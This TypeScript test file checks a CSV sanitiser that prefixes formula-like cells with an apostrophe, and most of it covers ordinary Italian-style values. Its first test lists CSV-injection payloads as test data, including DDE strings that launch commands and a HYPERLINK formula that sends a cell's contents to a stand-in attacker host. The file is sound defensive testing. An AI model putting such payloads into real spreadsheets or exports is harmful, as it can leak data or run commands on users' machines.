import t from 'tap';
import { stringify } from 'csv-stringify/sync';
import { parse } from 'csv-parse/sync';
import { CSV_SAFE_CAST, csvSafe } from '../../src/domain/csv-safe.js';

t.test('cells a spreadsheet would run as formulas get a leading apostrophe', async (t) => {
  for (const attack of [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")',
    '+1+cmd|x',
    '-2+3+cmd|x',
    '@SUM(1+1)*cmd|x',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1', // full-width equals sign
    '-',
    '=',
  ]) {
    t.equal(csvSafe(attack), `'${attack}`, JSON.stringify(attack));
  }
});

t.test('ordinary text and plain numbers are left as they are', async (t) => {
  for (const plain of ['Mario Rossi', 'TARI 2026 – rata 1', '', "'=già neutralizzato", ' =spazio', 'a=b', '12,50', '-12,50', '-1.234,56', '+3', '-12.5', '0', '302000000000000001', 'RSSMRA85T10A562S']) {
    t.equal(csvSafe(plain), plain, JSON.stringify(plain));
  }
  t.equal(csvSafe('-12,50 €'), "'-12,50 €", 'a number followed by text is text');
  t.equal(csvSafe('-1,2,3'), "'-1,2,3");
});

t.test('as the csv-stringify cast: every string cell, round trip through a parser', async (t) => {
  const csv = stringify([['=HYPERLINK("x")', 'ok', '-5,00']], { header: true, columns: ['a', 'b', 'c'], delimiter: ';', cast: CSV_SAFE_CAST });
  const rows = parse(csv, { delimiter: ';', columns: true }) as Record<string, string>[];
  t.same(rows, [{ a: `'=HYPERLINK("x")`, b: 'ok', c: '-5,00' }]);
});
